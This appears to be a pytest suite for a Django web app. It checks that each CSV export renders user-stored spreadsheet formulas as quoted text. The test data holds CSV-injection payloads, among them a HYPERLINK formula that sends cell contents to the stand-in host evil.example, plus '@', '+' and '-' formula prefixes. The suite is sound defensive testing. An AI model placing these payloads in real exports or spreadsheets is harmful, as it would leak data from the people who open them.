"""Every CSV export hands a spreadsheet formula stored by a user back as text (prefixed with a quote).

One test per export, end to end through its URL: the bulk invitation result (values from the uploaded
file), the partner's and the customer's activity exports and the staff console's audit export (names
stored by partners and customers), the bulk template and the onboarding funnel (our own values:
numbers stay numbers).
"""

from __future__ import annotations

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.urls import reverse

from audit.actions import AuditAction
from invitation_batches.models import InvitationBatch
from tests.factories import AuditEventFactory, CustomerFactory, PartnerFactory
from tests.invitation_batches.conftest import csv_text, good_row
from tests.staff.users import AUDITOR, sign_in_to_admin, staff_user

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Open")'
HOSTILE_COMPANIES = [HYPERLINK, "@SUM(1+1)", "+1+1", "-2+3", " =1+1", "\t=1+1"]


def rows_of(response) -> list[list[str]]:  # type: ignore[no-untyped-def]
    body = b"".join(response.streaming_content) if response.streaming else response.content
    return list(csv.reader(io.StringIO(body.decode("utf-8-sig"))))


def _upload(client, partner_id: str, rows: list[dict[str, str]]) -> InvitationBatch:  # type: ignore[no-untyped-def]
    upload = SimpleUploadedFile("customers.csv", csv_text(rows).encode(), content_type="text/csv")
    assert client.post(reverse("invitation_batches:upload", kwargs={"partner_id": partner_id}), {"file": upload}).status_code == 302
    return InvitationBatch.objects.order_by("-pk").first()


def _result(client, partner_id: str, batch: InvitationBatch) -> list[dict[str, str]]:  # type: ignore[no-untyped-def]
    response = client.get(reverse("invitation_batches:result_csv", kwargs={"partner_id": partner_id, "batch_pk": batch.pk}))
    assert response.streaming  # still streamed
    header, *lines = rows_of(response)
    assert not [cell for line in lines for cell in line if cell.lstrip().startswith(("=", "+", "@"))]
    return [dict(zip(header, line, strict=True)) for line in lines]


def test_the_bulk_result_returns_formulas_from_the_uploaded_file_as_text(client, partner_a, django_capture_on_commit_callbacks):  # type: ignore[no-untyped-def]
    partner_id = partner_a.partner.partner_id
    client.force_login(partner_a.admin.user)
    batch = _upload(client, partner_id, [good_row(n, company=company) for n, company in enumerate(HOSTILE_COMPANIES, start=1)])
    with django_capture_on_commit_callbacks(execute=True):
        client.post(reverse("invitation_batches:confirm", kwargs={"partner_id": partner_id, "batch_pk": batch.pk}))
    result = _result(client, partner_id, batch)
    stored = dict(batch.rows.values_list("line", "company"))
    assert {int(row["line"]): row["company"] for row in result} == {line: "'" + company for line, company in stored.items()}
    assert [row["status"] for row in result] == ["created"] * len(HOSTILE_COMPANIES)
    assert all(row["invitation_id"].isdigit() for row in result)  # our numbers stay numbers

    # A row the check refused: the hostile value it holds is echoed in the result, as text.
    refused = _upload(client, partner_id, [good_row(99, company="Fine Ltd", domain="=1+1")])
    (row,) = _result(client, partner_id, refused)
    assert (row["company"], row["domain"], row["status"]) == ("Fine Ltd", "'=1+1", "invalid")


def test_the_partners_activity_export_returns_a_customers_formula_as_text(client, partner_a):  # type: ignore[no-untyped-def]
    hostile = CustomerFactory(company_name=HYPERLINK)  # the customer names its own company
    AuditEventFactory(partner=partner_a.partner, customer=hostile, action=AuditAction.INVITATION_SENT,
                      actor_label="admin@contoso.example", target_label="@SUM(1+1)")
    client.force_login(partner_a.admin.user)
    response = client.get(reverse("audit:activity_export", kwargs={"partner_id": partner_a.partner.partner_id}))
    assert response.streaming
    header, row = rows_of(response)
    assert row[header.index("Customer")] == "'" + HYPERLINK
    assert row[header.index("Target")] == "'@SUM(1+1)"


def test_the_customers_activity_export_returns_a_partners_formula_as_text(client, customer_a):  # type: ignore[no-untyped-def]
    hostile = PartnerFactory(name="+1+1 Consulting")  # a partner names itself
    AuditEventFactory(customer=customer_a.customer, partner=hostile, action=AuditAction.GRANT_TERMINATED,
                      actor_label="-2+3@contoso.example", target_label="grant")
    client.force_login(customer_a.user)
    response = client.get(reverse("customer_activity:export", kwargs={"tenant_id": customer_a.customer.tenant_id}))
    header, row = rows_of(response)
    assert row[header.index("Partner")] == "'+1+1 Consulting"
    assert row[header.index("Actor")] == "'-2+3@contoso.example"


def test_the_staff_audit_export_returns_a_formula_after_leading_spaces_as_text(client):  # type: ignore[no-untyped-def]
    sign_in_to_admin(client, staff_user(group=AUDITOR))
    AuditEventFactory(partner=PartnerFactory(name="  =HYPERLINK(evil)"), customer=CustomerFactory(company_name="\t@cmd"),
                      action=AuditAction.INVITATION_CANCELLED, target_label="#42")
    header, row = rows_of(client.get(reverse("admin:audit_auditevent_export")))
    assert row[header.index("Partner")] == "'  =HYPERLINK(evil)"
    assert row[header.index("Customer")] == "'\t@cmd"
    assert row[header.index("Target")] == "#42"


def test_the_bulk_template_is_written_by_the_same_writer(client, partner_a):  # type: ignore[no-untyped-def]
    from invitation_batches.csv_format import COLUMNS, EXAMPLE_ROW

    client.force_login(partner_a.admin.user)
    response = client.get(reverse("invitation_batches:template", kwargs={"partner_id": partner_a.partner.partner_id}))
    assert response.content.decode("utf-8").startswith("\ufeffcompany,")
    assert rows_of(response) == [list(COLUMNS), [EXAMPLE_ROW[c] for c in COLUMNS]]


def test_the_funnel_export_keeps_its_counts_as_numbers(client, partner_a):  # type: ignore[no-untyped-def]
    client.force_login(partner_a.admin.user)
    response = client.get(reverse("invitations:funnel_csv", kwargs={"partner_id": partner_a.partner.partner_id}))
    body = response.content.decode("utf-8")
    assert body.startswith("section,item,count,rate_of_previous,rate_of_sent\r\n")
    _header, *lines = rows_of(response)
    assert lines and all(line[2].isdigit() for line in lines)  # unquoted counts, not "'0"
